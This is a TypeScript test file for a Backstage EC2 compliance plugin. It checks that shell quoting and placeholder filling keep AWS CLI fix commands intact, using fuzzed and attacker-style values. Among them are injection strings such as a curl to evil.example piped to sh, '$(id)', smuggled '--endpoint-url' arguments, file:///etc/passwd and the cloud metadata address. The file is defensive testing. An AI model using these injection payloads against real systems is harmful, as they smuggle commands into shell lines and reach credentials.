import { FixPlaceholder } from 'backstage-plugin-ec2-compliance-common';
import { execFileSync } from 'node:child_process';
import { fillCommand, fillLink, fillSentence } from './fillPlaceholders';
import { isPlainInShell, quoteForShell } from './quoteForShell';

/** The same numbers on every run, from 0 to below 1. */
function numbers(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return state / 2 ** 32;
  };
}

const CHARACTERS = [
  ...Array.from({ length: 127 }, (_, code) => String.fromCharCode(code + 1)),
  ...'‘’‚‛“”„–—é漢😀\u00a0\u2028\ufeff',
];

/** Names as an attacker writes them, and any others. */
function anyValues(count: number): string[] {
  const next = numbers(2026);
  const pick = <T>(items: readonly T[]) =>
    items[Math.floor(next() * items.length)];
  const parts = [
    ...CHARACTERS,
    ...["';", '";', '$(id)', '`id`', '&& id', '|id', '\nid\n', '--', "'\\''"],
    ...['payments', '-web', 'Env=prod', '$env:X', '@(', '#', '!!', '%PATH%'],
  ];
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + Math.floor(next() * 6) }, () => pick(parts)).join(
      '',
    ),
  );
}

const VALUES = [
  ...CHARACTERS,
  ...CHARACTERS.flatMap(c => [`a${c}b`, `${c}a`, `a${c}`]),
  ...anyValues(4_000),
  'payments-web',
  "a';curl evil.example|sh;'",
  'a’; calc; ’',
  '--endpoint-url=http://evil.example',
  'file:///etc/passwd',
  'x'.repeat(255),
];

/**
 * The words of a PowerShell command line, by section 2.3 of its language
 * specification: what single quotes enclose is taken as it stands, any of five
 * characters ends them, and outside of them only letters that mean nothing are
 * known here.
 */
function wordsInPowerShell(line: string): string[] {
  const words: string[] = [];
  let at = 0;
  while (at < line.length) {
    if (line[at] === ' ') {
      at++;
      continue;
    }
    const quoted = /^['‘’‚‛]((?:[^'‘’‚‛]|['‘’‚‛]{2})*)['‘’‚‛](?= |$)/.exec(
      line.slice(at),
    );
    const bare = /^[A-Za-z0-9_./][A-Za-z0-9_./:=-]*(?= |$)/.exec(
      line.slice(at),
    );
    const found = quoted ?? bare;
    if (!found) {
      throw new Error(`PowerShell would take apart: ${line.slice(at)}`);
    }
    words.push(
      quoted ? quoted[1].replace(/(['‘’‚‛])['‘’‚‛]/g, '$1') : found[0],
    );
    at += found[0].length;
  }
  return words;
}

describe('quoteForShell', () => {
  const quoted = VALUES.map(value => ({ value, word: quoteForShell(value) }));
  const accepted = quoted.filter(({ word }) => word !== undefined);

  it('is the value itself, as one word, in a real sh', () => {
    expect(accepted.length).toBeGreaterThan(300);
    const script = accepted
      .map(
        ({ word }) =>
          `set -- before ${word} after; printf '%s\\n%s\\n' "$#" "$2"`,
      )
      .join('\n');
    const printed = execFileSync('sh', [], { input: script, encoding: 'utf8' });

    expect(printed).toBe(accepted.map(({ value }) => `3\n${value}\n`).join(''));
  });

  it('is the value itself, as one word, in PowerShell', () => {
    for (const { value, word } of accepted) {
      expect(wordsInPowerShell(`before ${word} after`)).toEqual([
        'before',
        value,
        'after',
      ]);
    }
  });

  it('takes every name that an Auto Scaling group is likely to have', () => {
    for (const name of ['payments-web', 'a b', 'Web (blue)', 'x$1', 'a,b']) {
      expect(quoteForShell(name)).toBeDefined();
    }
  });

  it.each([
    ["a';curl evil.example;'"],
    ['a’;calc;’'],
    ['a\nid'],
    ['a" --debug "'],
    ['a&calc'],
    ['--endpoint-url=http://evil.example'],
    ['file:///etc/passwd'],
    ['FILEB://key'],
    ['http://169.254.169.254/latest'],
    [''],
  ])('has no word for %j', value => {
    expect(quoteForShell(value)).toBeUndefined();
    expect(isPlainInShell(value)).toBe(false);
  });
});

describe('placeholders', () => {
  const subject = (autoScalingGroup: string) => ({
    autoScalingGroup,
    instanceId: 'i-0123456789abcdef0',
    region: 'eu-west-1',
  });
  const command =
    "aws autoscaling start --name '{autoScalingGroup}' --tags 'ResourceId={autoScalingGroup},Key=A' --region {region}";

  it.each([
    [
      'payments-web',
      "aws autoscaling start --name payments-web --tags 'ResourceId=payments-web,Key=A' --region eu-west-1",
    ],
    [
      'a,b c',
      "aws autoscaling start --name 'a,b c' --tags 'ResourceId={autoScalingGroup},Key=A' --region eu-west-1",
    ],
    [
      "a';curl evil.example;'",
      "aws autoscaling start --name '{autoScalingGroup}' --tags 'ResourceId={autoScalingGroup},Key=A' --region eu-west-1",
    ],
    [
      '{region}',
      "aws autoscaling start --name '{region}' --tags 'ResourceId={autoScalingGroup},Key=A' --region eu-west-1",
    ],
  ])('of a command with %s', (group, filled) => {
    expect(fillCommand(command, subject(group))).toBe(filled);
  });

  it('keeps what is not known', () => {
    expect(fillCommand('aws x --id {instanceId}', {})).toBe(
      'aws x --id {instanceId}',
    );
    const known: Record<string, string> = { region: 'eu-west-1' };
    expect(
      fillSentence('Open {region} of {accountId}', name => known[name]),
    ).toBe('Open eu-west-1 of {accountId}');
  });

  it('cannot change where a link leads', () => {
    expect(
      fillLink(
        'https://{region}.console.aws.amazon.com/x?g={autoScalingGroup}',
        {
          region: 'evil.example/',
          autoScalingGroup: 'a&b#c',
        },
      ),
    ).toBe('https://evil.example%2F.console.aws.amazon.com/x?g=a%26b%23c');
  });

  it('does not break commands apart, whatever the names', () => {
    for (const value of VALUES) {
      const filled = fillCommand(command, subject(value));
      expect(filled.replace(/'[^']*'/g, '')).toMatch(
        /^aws autoscaling start --name \S* --tags {2}--region eu-west-1$/,
      );
    }
  });

  /** What evidence fills, each where steps have it. */
  const COMMANDS: Array<
    [command: string, words: number, names: FixPlaceholder[]]
  > = [
    [
      "aws iam attach-role-policy --role-name '{role}' --policy-arn '{policyArn}' --region {region}",
      9,
      ['role', 'policyArn'],
    ],
    [
      "aws ec2 describe-security-group-rules --filters 'Name=group-id,Values={securityGroup}' --region {region}",
      7,
      ['securityGroup'],
    ],
    [
      "aws ec2 attach-volume --volume-id {volume} --device '{device}' --region {region}",
      9,
      ['volume', 'device'],
    ],
    [
      "aws autoscaling create-or-update-tags --tags 'ResourceId={autoScalingGroup},Key={tag},Value=TAG_VALUE' --region {region}",
      7,
      ['autoScalingGroup', 'tag'],
    ],
    [
      `aws inspector2 list-findings --filter-criteria '{"vulnerabilityId":[{"comparison":"EQUALS","value":"{vulnerability}"}]}' --region {region}`,
      7,
      ['vulnerability'],
    ],
  ];

  it.each(COMMANDS)('keep the words of %s', (template, words, names) => {
    const lines = VALUES.map(value =>
      fillCommand(template, {
        region: 'eu-west-1',
        ...Object.fromEntries(names.map(name => [name, value])),
      }),
    );
    const script = lines
      .map(line => `set -- ${line}; printf '%s\\n' "$#" "$1" "$2"`)
      .join('\n');
    const printed = execFileSync('sh', [], { input: script, encoding: 'utf8' });
    const [, service, operation] = template.split(' ');
    expect(new Set(printed.trimEnd().split(/\n(?=\d+\n)/))).toEqual(
      new Set([`${words}\naws\n${service}`]),
    );
    expect(lines.every(line => line.includes(` ${operation} `))).toBe(true);
  });

  it('put several ids into one command, or none of them', () => {
    const templates = [
      "aws ssm send-command --targets 'Key=InstanceIds,Values={instanceIds}'",
      'aws ec2 reboot-instances --instance-ids {instanceIds}',
    ];
    const filled = VALUES.map(value => ({
      value,
      lines: templates.map(template =>
        fillCommand(template, { instanceIds: ['i-1', value, 'i-3'] }),
      ),
    }));
    const plain = filled.filter(({ value }) => isPlainInShell(value));
    expect(plain.length).toBeGreaterThan(100);
    expect(
      plain.map(({ lines: [quoted] }) =>
        wordsInPowerShell(quoted.slice(quoted.indexOf("'"))),
      ),
    ).toEqual(
      plain.map(({ value }) => [`Key=InstanceIds,Values=i-1,${value},i-3`]),
    );
    expect(plain.map(({ lines }) => lines[1])).toEqual(
      plain.map(
        ({ value }) =>
          `aws ec2 reboot-instances --instance-ids i-1 ${value} i-3`,
      ),
    );
    expect(
      filled.filter(
        ({ value, lines }) =>
          !isPlainInShell(value) &&
          lines.some((line, i) => line !== templates[i]),
      ),
    ).toEqual([]);
  });
});
